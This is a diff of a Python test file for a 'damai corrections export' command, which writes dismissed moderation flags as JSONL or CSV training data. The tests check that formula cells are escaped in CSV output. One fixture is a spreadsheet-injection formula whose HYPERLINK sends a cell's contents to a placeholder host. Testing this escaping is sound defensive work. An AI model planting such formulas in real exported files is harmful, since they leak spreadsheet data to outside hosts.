@@ -1,38 +1,61 @@
-"""``damai corrections export`` writes dismissed flags as a CSV ``damai train`` reads."""
+"""``damai corrections export``: dismissed flags as training data. JSONL by default keeps the
+exact text and leaves labels nobody judged out (unknown, never 0); CSV is for spreadsheets, with
+formula cells escaped (issue #10)."""
 
 from __future__ import annotations
 
 import csv
 from pathlib import Path
 
+import orjson
 import pytest
 
-from damai.cli.main import main
 from damai.storage import open_store
-from damai.understand.data import parse_labels, read_table
+from tests.conftest import run_cli
 from tests.integration.web_helpers import fill_posts
 
+FORMULA = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik") +62 @admin'
 
-def test_export_writes_text_and_0_1_label_columns(tmp_path: Path, db_url: str,
-                                                  capsys: pytest.CaptureFixture[str]) -> None:
-    fill_posts(tmp_path, db_url)
+
+@pytest.fixture
+def corrected(tmp_path: Path, db_url: str) -> str:
+    fill_posts(tmp_path, db_url, texts=[FORMULA, "Banjir di Bekasi"])
     store = open_store(db_url)
     flagged = store.recent_posts("flagged", 10)
-    hostile = next(s for s in flagged if "rakitan" in s.post.text)
+    hostile = next(s for s in flagged if s.post.text == FORMULA)
     store.add_corrections(hostile.id, dict.fromkeys(hostile.post.flags, 0), "sari")
     flood = next(s for s in flagged if "Banjir" in s.post.text)
     store.add_corrections(flood.id, {"disaster": 1}, "sari")
     store.close()
-    out = tmp_path / "koreksi.csv"
-    with pytest.raises(SystemExit) as done:
-        main(["corrections", "export", "--out", str(out), "--db", db_url])
-    assert done.value.code in (0, None)
+    return db_url
+
+
+def test_jsonl_is_the_default_and_keeps_exact_text_and_unknown_labels(
+        corrected: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    out = tmp_path / "koreksi.jsonl"
+    code, _, err = run_cli(capsys, "corrections", "export", "--out", str(out), "--db", corrected)
+    assert code == 0
     assert "--labels disaster=disaster,hate_speech=hate_speech,radicalism=radicalism" in (
-        capsys.readouterr().err.replace("\n", ""))
-    with out.open(encoding="utf-8") as stream:
+        err.replace("\n", ""))
+    rows = [orjson.loads(line) for line in out.read_bytes().splitlines()]
+    assert rows == [{"text": FORMULA, "radicalism": 0, "hate_speech": 0},
+                    {"text": "Banjir di Bekasi", "disaster": 1}]
+
+
+def test_csv_escapes_formulas_and_leaves_unknown_labels_empty(
+        corrected: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    out = tmp_path / "koreksi.csv"
+    code, _, _ = run_cli(capsys, "corrections", "export", "--format", "csv", "--out", str(out),
+                         "--db", corrected)
+    assert code == 0
+    with out.open(encoding="utf-8", newline="") as stream:
         rows = list(csv.DictReader(stream))
-    assert [(r["text"][:9], r["disaster"], r["hate_speech"], r["radicalism"]) for r in rows] == [
-        ("<script>a", "0", "0", "0"), ("Banjir di", "1", "0", "0")]
-    specs = parse_labels("radicalism=radicalism,disaster=disaster")
-    table = read_table(out, "text", specs)  # what `damai train --data` reads
-    assert table.y.tolist() == [[0.0, 0.0], [0.0, 1.0]]
+    assert [(r["text"], r["disaster"], r["hate_speech"], r["radicalism"]) for r in rows] == [
+        ("'" + FORMULA, "", "0", "0"), ("Banjir di Bekasi", "1", "", "")]
+
+
+def test_an_unknown_format_is_refused(corrected: str, tmp_path: Path,
+                                      capsys: pytest.CaptureFixture[str]) -> None:
+    code, _, err = run_cli(capsys, "corrections", "export", "--format", "xlsx", "--out",
+                           str(tmp_path / "k.xlsx"), "--db", corrected)
+    assert code == 2 and "jsonl" in err
